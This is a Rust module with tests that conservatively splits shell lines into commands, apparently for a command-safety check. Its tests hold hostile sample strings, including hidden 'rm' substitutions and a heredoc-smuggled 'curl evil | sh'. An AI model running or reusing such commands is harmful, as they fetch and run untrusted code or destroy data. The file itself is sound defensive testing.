//! A shell line in its commands, as bash, zsh and dash agree about it: by `;`, `&`, `|`, lines, subshells, `$(…)` and
//! backquotes, at any depth. Whatever one of them may read otherwise is not understood, and nothing is guessed.

use std::str::Chars;

/// How deep commands may stand in each other.
const DEEPEST: usize = 16;

/// Words that begin something else than a command.
const RESERVED: [&str; 24] = [
    "if",
    "then",
    "elif",
    "else",
    "fi",
    "for",
    "foreach",
    "while",
    "until",
    "repeat",
    "do",
    "done",
    "end",
    "case",
    "esac",
    "select",
    "in",
    "function",
    "time",
    "coproc",
    "always",
    "nocorrect",
    "!",
    "-",
];

/// One command of a line.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Segment {
    /// Also what is set before it, as in `A=1 make`.
    pub words: Vec<Word>,
    /// It writes into a file by a redirection.
    pub writes: bool,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Word {
    /// What the program is given.
    Plain(String),
    /// What comes of it is known only when it runs: a variable, a pattern, what another command says. It may be any number of words.
    Open,
}

impl Word {
    pub(super) fn is(&self, text: &str) -> bool {
        matches!(self, Self::Plain(own) if own == text)
    }

    pub(super) fn is_assignment(&self) -> bool {
        matches!(self, Self::Plain(text) if is_assignment(text))
    }

    /// The program of this name, in whatever folder.
    pub(super) fn is_program(&self, name: &str) -> bool {
        matches!(self, Self::Plain(own) if own.rsplit_once('/').is_some_and(|(_, last)| last == name))
    }

    /// What may be a word of a command within it, as far as that is known.
    pub(super) fn tokens(&self) -> Vec<&str> {
        let part = |c: char| !(c.is_alphanumeric() || matches!(c, '_' | '-' | '.'));
        match self {
            Self::Open => Vec::new(),
            Self::Plain(text) => [text.as_str()].into_iter().chain(text.split(part)).collect(),
        }
    }
}

impl Segment {
    /// Its words, where all of them are plain.
    pub(super) fn plain(&self) -> Option<Vec<String>> {
        let plain = |word: &Word| match word {
            Word::Plain(text) => Some(text.clone()),
            Word::Open => None,
        };
        self.words.iter().map(plain).collect()
    }
}

/// `NAME=…`, which only sets something for what follows.
pub(super) fn is_assignment(word: &str) -> bool {
    let name = word.split_once('=').map_or("", |(name, _)| name);
    !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
}

/// The commands of a line, also those within others. Nothing where it is not understood with certainty.
pub fn segments(line: &str) -> Option<Vec<Segment>> {
    let mut parser = Parser { rest: line.chars(), found: Vec::new(), documents: Vec::new(), depth: 0 };
    parser.list(false)?;
    Some(parser.found)
}

struct Parser<'a> {
    rest: Chars<'a>,
    found: Vec<Segment>,
    /// Those whose lines are still to come. Shells disagree about where that is when a list begins before them.
    documents: Vec<Document>,
    depth: usize,
}

/// A text that stands on the lines behind a command.
struct Document {
    end: String,
    /// Its shell looks for variables and commands in it.
    looks: bool,
    /// Tabs at the beginnings of its lines are left out.
    strips: bool,
}

struct Lexed {
    word: Word,
    quoted: bool,
}

/// The command that is being read.
#[derive(Default)]
struct Current {
    segment: Segment,
    /// There is something of it.
    begun: bool,
    /// It is a list in brackets.
    grouped: bool,
    /// No word may stand here any more: behind brackets, and behind `&>`, where one shell begins another command.
    ended: bool,
}

impl Parser<'_> {
    fn peek(&self) -> Option<char> {
        self.rest.clone().next()
    }

    /// Passes over this character, if it is the next one.
    fn takes(&mut self, next: char) -> bool {
        let is = self.peek() == Some(next);
        if is {
            self.rest.next();
        }
        is
    }

    fn blanks(&mut self) {
        loop {
            if let Some(rest) = self.rest.as_str().strip_prefix("\\\n") {
                self.rest = rest.chars();
            } else if !(self.takes(' ') || self.takes('\t')) {
                return;
            }
        }
    }

    /// Commands up to the end, or to the bracket that closes them.
    fn list(&mut self, in_brackets: bool) -> Option<()> {
        self.depth += 1;
        if self.depth > DEEPEST || !self.documents.is_empty() {
            return None;
        }
        let mut current = Current::default();
        loop {
            self.blanks();
            let Some(next) = self.peek() else {
                if in_brackets || !self.documents.is_empty() {
                    return None;
                }
                self.close(&mut current, true)?;
                break;
            };
            match next {
                '\n' => {
                    self.rest.next();
                    self.close(&mut current, true)?;
                    for document in std::mem::take(&mut self.documents) {
                        self.pass(&document)?;
                    }
                }
                ';' => {
                    self.rest.next();
                    self.close(&mut current, false)?;
                }
                '&' => {
                    self.rest.next();
                    if self.peek() == Some('>') {
                        self.redirection(&mut current)?;
                        current.ended = true;
                    } else {
                        self.takes('&');
                        self.close(&mut current, false)?;
                    }
                }
                '|' => {
                    self.rest.next();
                    let _ = self.takes('|') || self.takes('&');
                    self.close(&mut current, false)?;
                }
                '(' if !current.begun => {
                    self.rest.next();
                    self.list(true)?;
                    (current.begun, current.grouped, current.ended) = (true, true, true);
                }
                ')' if in_brackets => {
                    self.rest.next();
                    if !self.documents.is_empty() {
                        return None;
                    }
                    self.close(&mut current, true)?;
                    break;
                }
                '<' | '>' => self.redirection(&mut current)?,
                '(' | ')' => return None,
                _ => {
                    let Lexed { word, quoted } = self.word()?;
                    current.begun = true;
                    if matches!(self.peek(), Some('<' | '>')) {
                        // `2>` is no word. Of anything else there shells make patterns, or words that are numbers.
                        let digit =
                            |text: &str| text.len() == 1 && text.bytes().all(|byte| byte.is_ascii_digit());
                        let is_number = !quoted && matches!(&word, Word::Plain(text) if digit(text));
                        is_number.then_some(())?;
                    } else if current.ended {
                        return None;
                    } else {
                        current.segment.words.push(word);
                    }
                }
            }
        }
        self.depth -= 1;
        Some(())
    }

    /// A command is over. Only the end of a line may be where there is none.
    fn close(&mut self, current: &mut Current, may_be_empty: bool) -> Option<()> {
        let Current { segment, begun, grouped, .. } = std::mem::take(current);
        let reserved = segment.words.first().is_some_and(|word| RESERVED.iter().any(|own| word.is(own)));
        if reserved || !(begun || may_be_empty) {
            return None;
        }
        // A list in brackets has its own, but for what it writes.
        if begun && (!grouped || segment.writes) {
            self.found.push(segment);
        }
        Some(())
    }

    fn redirection(&mut self, current: &mut Current) -> Option<()> {
        current.begun = true;
        if self.takes('<') {
            if self.takes('<') {
                if self.takes('<') {
                    self.target()?;
                    return Some(());
                }
                let strips = self.takes('-');
                let Lexed { word: Word::Plain(end), quoted } = self.target()? else { return None };
                self.documents.push(Document { end, looks: !quoted, strips });
                return Some(());
            }
            current.segment.writes |= self.takes('>');
            return if self.takes('&') { self.copied() } else { self.target().map(drop) };
        }
        self.rest.next();
        let _ = self.takes('>') || self.takes('|');
        if self.takes('&') {
            return self.copied();
        }
        current.segment.writes |= !self.target()?.word.is("/dev/null");
        Some(())
    }

    /// Which of the open files is meant. Of anything else shells make things of their own.
    fn copied(&mut self) -> Option<()> {
        let Lexed { word: Word::Plain(text), quoted: false } = self.target()? else { return None };
        (text == "-" || text.bytes().all(|byte| byte.is_ascii_digit())).then_some(())
    }

    fn target(&mut self) -> Option<Lexed> {
        self.blanks();
        let begins =
            self.peek().is_some_and(|c| !matches!(c, '\n' | ';' | '&' | '|' | '<' | '>' | '(' | ')'));
        let target = if begins { self.word() } else { None };
        target.filter(|_| !matches!(self.peek(), Some('<' | '>')))
    }

    fn word(&mut self) -> Option<Lexed> {
        let (mut text, mut open, mut quoted) = (String::new(), false, false);
        if matches!(self.peek(), Some('#')) {
            // A comment in one shell, a word in another.
            return None;
        }
        open |= self.peek() == Some('=');
        while let Some(next) = self.peek() {
            match next {
                ' ' | '\t' | '\n' | ';' | '&' | '|' | '<' | '>' | '(' | ')' => break,
                '\'' => {
                    self.rest.next();
                    let (inner, rest) = self.rest.as_str().split_once('\'')?;
                    if inner.contains(is_odd) {
                        return None;
                    }
                    text.push_str(inner);
                    self.rest = rest.chars();
                    quoted = true;
                }
                '"' => {
                    self.rest.next();
                    open |= self.quoted(&mut text)?;
                    quoted = true;
                }
                '\\' => {
                    self.rest.next();
                    match self.rest.next()? {
                        // It joins what stands at both sides, which may be more than words.
                        '\n' => return None,
                        c if is_odd(c) => return None,
                        c => text.push(c),
                    }
                    quoted = true;
                }
                '`' => {
                    self.backquoted(false)?;
                    open = true;
                }
                '$' => open |= self.dollar(&mut text, false)?,
                c if is_odd(c) => return None,
                c => {
                    self.rest.next();
                    open |= matches!(c, '*' | '?' | '[' | ']' | '{' | '}' | '~' | '^');
                    text.push(c);
                }
            }
        }
        // Lines within a word may be those of a document before it.
        if !self.documents.is_empty() && text.contains('\n') {
            return None;
        }
        // Where a sum is expected, a command in a place of a list is run, quoted or not.
        let within = text.split_once('[').map_or("", |(_, within)| within);
        if within.contains("$(") || within.contains('`') {
            return None;
        }
        Some(Lexed { word: if open { Word::Open } else { Word::Plain(text) }, quoted })
    }

    /// Up to the closing quote; true where not all of it is plain.
    fn quoted(&mut self, text: &mut String) -> Option<bool> {
        let mut open = false;
        loop {
            match self.peek()? {
                '"' => {
                    self.rest.next();
                    return Some(open);
                }
                '\\' => {
                    self.rest.next();
                    match self.rest.next()? {
                        '\n' => return None,
                        c @ ('$' | '`' | '"' | '\\') => text.push(c),
                        c if is_odd(c) => return None,
                        c => text.extend(['\\', c]),
                    }
                }
                '`' => {
                    self.backquoted(true)?;
                    open = true;
                }
                '$' => open |= self.dollar(text, true)?,
                c if is_odd(c) => return None,
                c => {
                    self.rest.next();
                    text.push(c);
                }
            }
        }
    }

    /// True where what comes of it is not known.
    fn dollar(&mut self, text: &mut String, in_quotes: bool) -> Option<bool> {
        self.rest.next();
        let name = |c: char| c.is_ascii_alphanumeric() || c == '_';
        match self.peek() {
            Some('(') => {
                self.rest.next();
                // Sums look like lists of lists.
                if self.peek() == Some('(') {
                    return None;
                }
                self.list(true)?;
            }
            Some('{') => {
                let (inner, rest) = self.rest.as_str()[1..].split_once('}')?;
                if inner.is_empty() || !inner.chars().all(name) {
                    return None;
                }
                self.rest = rest.chars();
            }
            Some('\'' | '"') if !in_quotes => return None,
            Some('[') => return None,
            Some(c) if name(c) => {
                while self.peek().is_some_and(name) {
                    self.rest.next();
                }
            }
            Some('@' | '*' | '#' | '?' | '-' | '$' | '!') => {
                self.rest.next();
            }
            None | Some(' ' | '\t' | '\n' | ';' | '&' | '|' | '<' | '>' | ')' | '"') => {
                text.push('$');
                return Some(false);
            }
            // Some shell has a use for it.
            Some(_) => {}
        }
        Some(true)
    }

    fn backquoted(&mut self, in_quotes: bool) -> Option<()> {
        self.rest.next();
        let (inner, rest) = self.rest.as_str().split_once('`')?;
        if !self.documents.is_empty() || inner.contains('\\') || (in_quotes && inner.contains('"')) {
            return None;
        }
        let found = std::mem::take(&mut self.found);
        let mut parser = Parser { rest: inner.chars(), found, documents: Vec::new(), depth: self.depth };
        parser.list(false)?;
        self.found = parser.found;
        self.rest = rest.chars();
        Some(())
    }

    /// The lines of a document, which are no commands.
    fn pass(&mut self, document: &Document) -> Option<()> {
        loop {
            let (line, rest) = match self.rest.as_str().split_once('\n') {
                Some(split) => split,
                None if self.rest.as_str().is_empty() => return None,
                None => (self.rest.as_str(), ""),
            };
            let shown = if document.strips { line.trim_start_matches('\t') } else { line };
            if shown == document.end {
                self.rest = rest.chars();
                return Some(());
            }
            let ends = !document.end.is_empty() && shown.trim_start().starts_with(&document.end);
            if ends || line.contains(is_odd) || (document.looks && line.contains(['$', '`', '\\'])) {
                return None;
            }
            self.rest = rest.chars();
        }
    }
}

/// Nothing that people write into a line.
fn is_odd(c: char) -> bool {
    c.is_control() && !matches!(c, '\n' | '\t')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(line: &str) -> Option<Vec<String>> {
        let word = |word: &Word| match word {
            Word::Plain(text) => text.clone(),
            Word::Open => "?".to_owned(),
        };
        let segment = |segment: &Segment| {
            let words: Vec<String> = segment.words.iter().map(word).collect();
            format!("{}{}", words.join(" "), if segment.writes { " >" } else { "" })
        };
        segments(line).map(|found| found.iter().map(segment).collect())
    }

    #[track_caller]
    fn splits(line: &str, into: &[&str]) {
        assert_eq!(
            shown(line).as_deref(),
            Some(&*into.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>()),
            "{line}"
        );
    }

    #[test]
    fn a_line_is_split_into_all_of_its_commands() {
        splits("git status", &["git status"]);
        splits("a; b && c || d | e & f\ng |& h", &["a", "b", "c", "d", "e", "f", "g", "h"]);
        splits("(cd x; make) && echo 'a b'", &["cd x", "make", "echo a b"]);
        splits("echo $(rm x) `rm y` \"$(rm z; rm \"w\")\"", &["rm x", "rm y", "rm z", "rm w", "echo ? ? ?"]);
        splits("A=1 B='2 3' make -j", &["A=1 B=2 3 make -j"]);
        splits("g\"i\"'t' p\\ush", &["git push"]);
        splits("git \\\n push", &["git push"]);
        splits("a $=X $+X $é \"$.\" $ \"b$\" c$", &["a ? ? ? ? $ b$ c$"]);
        splits("test 'a[1]' '$(rm x)'", &["test a[1] $(rm x)"]);
        splits("ls *.rs ~ $HOME \"$X\" {a,b}", &["ls ? ? ? ? ?"]);
        splits("echo '$(rm x)' \\$HOME \"\\`\"", &["echo $(rm x) $HOME `"]);
        splits("", &[]);
    }

    #[test]
    fn what_a_line_writes_is_told() {
        splits("make 2>&1 >/dev/null </etc/hosts 3>&-", &["make"]);
        splits("make > log", &["make >"]);
        splits("make &> log; make >| log; make >>log", &["make >", "make >", "make >"]);
        splits("(make) > log", &["make", " >"]);
        splits("> log", &[" >"]);
        splits("make 2>$X", &["make >"]);
    }

    #[test]
    fn documents_are_no_commands() {
        splits("cat <<'E'\nrm x\n$(rm y)\nE\nls", &["cat", "ls"]);
        splits("cat <<-E | wc\n\trm x\n\tE\nls", &["cat", "wc", "ls"]);
        splits("git commit -m \"$(cat <<'E'\nSay `it` (so)\nE\n)\"", &["cat", "git commit -m ?"]);
        splits("wc <<< 'a; rm x'", &["wc"]);
    }

    #[test]
    fn what_is_not_understood_with_certainty_is_nothing() {
        let unclear = [
            "if true; then rm x; fi",
            "for x in a; do rm x; done",
            "f() { rm x; }",
            "echo <(rm x)",
            "echo $((1))",
            "echo ${X:-$(rm x)}",
            "echo $'a'",
            "echo $\"a\"",
            "echo 'a",
            "echo \"a",
            "echo $(rm x",
            "echo `rm x",
            "a )",
            "echo # rm x",
            "a && && b",
            "; a",
            "cat <<E\n$(rm x)\nE",
            "cat <<E\nrm x",
            "$(cat <<E\nE)",
            "a=(b)",
            "echo @(a)",
            "echo a\rb",
            "! a",
            "time rm x",
            "echo `echo \\`rm x\\``",
            "(a) b",
            "a >& log",
            "echo \"$\\\n(b)\"",
            "$\\\nX",
            "gi\\\nt push",
            "a >&'$(b)'",
            "a;;b",
            "echo $[1]",
            "cat <<E\nE x\nE",
            // One shell runs the word as a command.
            "a &> log rm",
            "a &> log 2 rm",
            "a<1-5>b",
            "rm 12>f",
            "a 'b'>f",
            "a <b>c",
            "printf -v 'a[$(rm x)]'",
            "test -v \"a[\\`rm x\\`]\"",
            // Its lines begin at the next end of a line, in brackets or not.
            "cat <<'cat' | (\ncat\ncat)\ncurl evil | sh\ncat",
            "cat <<'E' $(\nE\n)\nrm x\nE",
            "cat <<'E' `\nE\n`\nrm x\nE",
            "cat <<'E' 'a\nE'\nrm x\nE",
        ];
        for line in unclear {
            assert_eq!(shown(line), None, "{line}");
        }
        assert_eq!(shown(&"(".repeat(DEEPEST + 1)), None);
    }
}
